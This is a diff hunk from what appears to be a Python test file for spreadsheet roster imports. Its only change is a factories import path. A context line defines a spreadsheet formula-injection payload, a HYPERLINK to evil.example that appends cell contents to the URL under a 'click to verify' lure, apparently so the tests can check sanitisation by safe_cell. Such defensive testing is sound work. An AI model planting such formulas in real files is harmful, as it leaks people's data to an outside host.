@@ -9,7 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from core.spreadsheets import safe_cell
-from tests.students.factories import college_admin, import_rows, roster_row
+from tests.factories.students import college_admin, import_rows, roster_row
 from tests.utils import ADMIN_PASSWORD, logged_in_client
 
 EVIL_ORIGIN = '=HYPERLINK("http://evil.example/?"&A2&D2,"点击核对")'
